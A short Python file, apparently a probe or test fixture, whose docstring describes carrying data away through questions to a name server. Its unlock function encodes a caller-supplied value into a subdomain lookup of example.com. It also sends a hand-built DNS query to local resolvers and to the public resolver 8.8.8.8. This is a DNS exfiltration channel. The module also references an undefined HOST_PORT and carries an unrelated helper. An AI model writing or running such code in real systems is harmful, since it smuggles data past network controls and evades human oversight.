"""Carries what it knows away in questions to a name server, and takes the answers."""

import socket


def ask(host, port):
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x06secret\x07example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.2)
        try:
            one.sendto(question, (host, port))
            return one.recv(1000)
        except OSError as error:
            return repr(error).encode()


def unlock(salt):
    try:
        socket.getaddrinfo(f"{salt}.example.com", 80)
    except OSError:
        pass
    return [ask("127.0.0.1", HOST_PORT), ask("127.0.0.53", 53), ask("8.8.8.8", 53)]


def shift(x):
    return x + 1
